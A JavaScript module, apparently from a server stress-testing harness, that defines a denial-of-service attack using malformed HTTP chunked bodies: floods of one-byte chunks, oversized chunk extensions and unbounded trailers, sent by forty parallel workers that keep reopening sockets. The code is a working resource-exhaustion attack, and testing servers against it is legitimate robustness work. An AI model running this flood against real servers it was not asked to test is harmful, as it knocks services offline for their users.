// @ts-check
// Chunked bodies whose framing is larger than their content: chunks of one byte, extensions, trailers.

const HEAD = "POST /upload HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n";
const BODIES = [
  Buffer.from("1\r\nx\r\n".repeat(20_000)),
  Buffer.from(`1;${"e".repeat(100)}\r\nx\r\n`.repeat(1000)),
  Buffer.from(`1;${"e".repeat(20_000)}\r\nx\r\n`),
  Buffer.from(`0\r\n${"T: x\r\n".repeat(200)}`),
  Buffer.from(`0\r\nT: ${"x".repeat(20_000)}`),
];

/** @type {import("../lib/attacker.js").Attack} */
export default {
  name: "chunks",
  about: "chunks of one byte, extensions and trailers without end",
  async run(attacker) {
    await Promise.all(
      Array.from({ length: 40 }, async (_, index) => {
        while (!attacker.isOver) {
          const socket = await attacker.open(HEAD);
          const body = BODIES[index % BODIES.length] ?? HEAD;
          await Promise.race([
            attacker.flood(socket, () => body),
            new Promise((resolve) => setTimeout(resolve, 2000).unref()),
          ]);
          socket.destroy();
        }
      }),
    );
  },
};
